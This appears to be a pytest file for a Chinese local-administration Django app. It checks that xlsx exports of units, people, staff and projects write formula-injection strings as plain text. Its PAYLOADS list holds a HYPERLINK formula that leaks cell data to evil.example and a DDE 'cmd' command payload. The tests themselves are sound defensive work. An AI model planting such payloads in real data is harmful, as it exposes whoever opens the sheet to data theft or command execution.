"""Issue 10, item 10: an export cannot carry a formula.

The attacker names a unit, a grid, a person or a staff member `=HYPERLINK(…)` (or `+…`, `-…`, `@…`)
and waits for an official to export and open the sheet. Every xlsx export must write such a string as
a text cell: no `<f>` element anywhere in the file, every cell of type string.
"""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _assert_no_formula(data: bytes, *, expect: list[str]):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(?:\w+:)?f[ >]", archive.read(name)), name
    book = load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    for payload in expect:
        assert payload in seen, payload  # the text itself is kept, as text


@pytest.fixture
def hostile(city):
    from jiceng.orgs.models import Unit

    Unit.objects.filter(pk=city.grid.pk).update(name=PAYLOADS[0])
    Unit.objects.filter(pk=city.compound.pk).update(name=PAYLOADS[1])
    Unit.objects.filter(pk=city.building.pk).update(address=PAYLOADS[2])
    Unit.objects.filter(pk=city.grid_b.pk).update(name=PAYLOADS[3])
    return city


def test_the_units_export_through_the_api_writes_formulas_as_text(hostile, client_for):
    r = client_for("street_official").get(f"/api/v1/orgs/units/{hostile.street.code}/export.xlsx")
    if r.status_code == 404:  # the router's prefix
        r = client_for("street_official").get(f"/api/v1/units/{hostile.street.code}/export.xlsx")
    assert r.status_code == 200
    _assert_no_formula(r.content, expect=PAYLOADS)


def test_the_people_export_writes_a_hostile_name_as_text(city):
    from jiceng.people.excel import people_export
    from jiceng.people.models import Person

    Person.objects.filter(pk=city.resident_person.pk).update(name=PAYLOADS[0])
    _assert_no_formula(people_export(user=city.users["city_admin"], unit=city.community), expect=[PAYLOADS[0]])


def test_the_network_exports_write_hostile_names_as_text(hostile):
    from jiceng.network import excel, geoio
    from jiceng.network.models import GridStaff
    from jiceng.orgs.models import Unit

    GridStaff.objects.create(grid=Unit.objects.get(pk=hostile.grid.pk), unit_path=hostile.grid.path, role="leader",
                             name=PAYLOADS[3])
    _assert_no_formula(excel.export_staff(hostile.street), expect=[PAYLOADS[0], PAYLOADS[3]])
    _assert_no_formula(excel.export_compounds(hostile.street), expect=[PAYLOADS[1]])
    grids = list(Unit.objects.filter(kind="grid", path__startswith=hostile.community.path))
    _assert_no_formula(geoio.export_excel(grids), expect=[PAYLOADS[0], PAYLOADS[3]])


def test_the_projects_and_mobilize_exports_write_hostile_names_as_text(hostile):

    from jiceng.mobilize.services import employer_report_xlsx
    from jiceng.projects.exports import dispatch_xlsx

    unit = type("U", (), {"code": "141002001", "name": PAYLOADS[0]})()
    rows = [{"unit": unit, "tasks": 1, "projects": 0, "progress": 50.0, "expected": 40.0, "behind": 0, "done": 0}]
    _assert_no_formula(dispatch_xlsx(rows=rows, tasks=[], projects=[], expected={}), expect=[PAYLOADS[0]])
    data = employer_report_xlsx(rows=[{"name": PAYLOADS[2], "community": PAYLOADS[3], "activities": 2, "hours": 3,
                                       "shifts": 0}], employer=PAYLOADS[1], year=timezone.localdate().year)
    _assert_no_formula(data, expect=[PAYLOADS[1], PAYLOADS[2], PAYLOADS[3]])


def test_a_sheet_named_after_a_hostile_unit_still_exports(city):
    """Sheet titles come from unit names: characters Excel refuses in a title are dropped, not a 500."""
    from jiceng.orgs.excel import units_export
    from jiceng.orgs.models import Unit

    Unit.objects.filter(pk=city.street.pk).update(name="街道/[测试]:*?")
    data = units_export(user=city.users["city_admin"], unit=Unit.objects.get(pk=city.street.pk))
    assert load_workbook(io.BytesIO(data)).worksheets[0].title == "街道测试"


def test_every_writer_appends_rows_through_the_one_safe_helper():
    """A module that builds a workbook appends its rows with jiceng.core.excel.append_row, never directly."""
    direct = re.compile(r"\b(ws|sheet|worksheet|book\.active)\.append\(")
    problems = []
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT)
        if "tests" in rel.parts or "migrations" in rel.parts or rel.as_posix() in ("core/excel.py", "core/testing.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text or "load_workbook(" in text:
            problems += [f"{rel}:{text.count(chr(10), 0, m.start()) + 1}" for m in direct.finditer(text)]
            if "load_workbook(" in text:
                problems.append(f"{rel}: load_workbook outside jiceng.core.excel.open_workbook")
    assert problems == []
